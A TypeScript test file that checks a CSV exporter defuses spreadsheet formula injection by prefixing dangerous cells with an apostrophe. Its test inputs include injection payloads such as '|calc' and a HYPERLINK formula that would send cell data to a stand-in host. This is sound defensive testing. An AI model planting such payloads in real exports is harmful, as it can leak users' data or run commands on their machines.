import { describe, expect, test } from 'vitest';
import { csvOf, csvText } from './csv.ts';

/** Parses the single cell of a file. */
const cellOf = (text: string) => {
  const written = csvOf([[text]]).slice(1, -2);
  return written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
};
/** What a spreadsheet takes for cells whose separator is the semicolon, when it does not heed quotes inside a line. */
const looseCells = (text: string) =>
  csvOf([[text]])
    .slice(1)
    .split(/[;\t\r\n]/);
const beginsFormula = /^[\s"\p{Cf}]*[=+\-@|%\uff1d\uff0b\uff0d\uff20\uff5c\uff05]/u;

describe('no text is a formula', () => {
  test.each([
    ['=1+1'],
    ['+1'],
    ['-1'],
    ['@SUM(A1)'],
    ['|calc'],
    ['%0A=1'],
    ['  =1'],
    [' =1+1'],
    ['"=1'],
    ["'=1"],
    ['\uff1dcmd'],
    ['\uff0b1'],
    ['\uff0d1'],
    ['\uff20SUM(A1)'],
    ['\u22121'],
    ['\u200b=1'],
    ['\u00ad=1'],
    ['\u2060\u200e=1'],
    ['=HYPERLINK("http://x.example?"&A1,"x")'],
  ])('%j', (text) => expect(cellOf(text)).toBe(`'${text}`));

  test.each([
    ['a;=1+1', "a;'=1+1"],
    ['a;"=1"', 'a;\'"=1"'],
    ['a; =1', "a;' =1"],
    ['a\n=1', "a\n'=1"],
    ['\n=HYPERLINK("x")', '\'\n\'=HYPERLINK("x")'],
    ['a\t=1', "a\t'=1"],
    ['\t=1', "'\t'=1"],
    ['\r=1', "'\r'=1"],
    [';;=1', ";;'=1"],
    ['a;\u200b\uff1d1', "a;'\u200b\uff1d1"],
    ['x\n- one\n- two', "x\n'- one\n'- two"],
  ])('%j, nor a part of it where the semicolon separates', (text, harmless) => {
    expect(cellOf(text)).toBe(harmless);
    expect(looseCells(text).filter((cell) => beginsFormula.test(cell))).toEqual([]);
  });

  test.each(['a=b', 'a - b', '5 % more', 'Zoë 🌊', 'photos/001.jpg; photos/002.jpg', "O'Neil", '2026-08-10T16:00', ''])(
    '%j is none, and stays as it is',
    (text) => expect(cellOf(text)).toBe(text),
  );
});

test('a cell of many line ends takes linear time', () => {
  const ends = '\n'.repeat(300_000);
  expect(cellOf(`${ends}a`)).toBe(`${ends}a`);
  expect(cellOf(`${ends}=1`)).toBe(`'${ends.replaceAll('\n', "\n'")}=1`);
});

test('numbers stay numbers, below zero too, and nothing is an empty cell', () => {
  expect(csvOf([[-40, 0, 0.25, null, undefined, '']])).toBe('\ufeff-40,0,0.25,,,\r\n');
});

test('commas, quotes and line ends are quoted, each line ends, and a mark says UTF-8', () => {
  expect(
    csvOf([
      ['a', 'b'],
      ['He said "no",\nthen left', 'c'],
    ]),
  ).toBe('\ufeffa,b\r\n"He said ""no"",\nthen left",c\r\n');
});

test('a text of our own is quoted and no more', () => {
  expect(['+18005550142,,1', '-7.76', 'A "B"'].map(csvText)).toEqual(['"+18005550142,,1"', '-7.76', '"A ""B"""']);
});
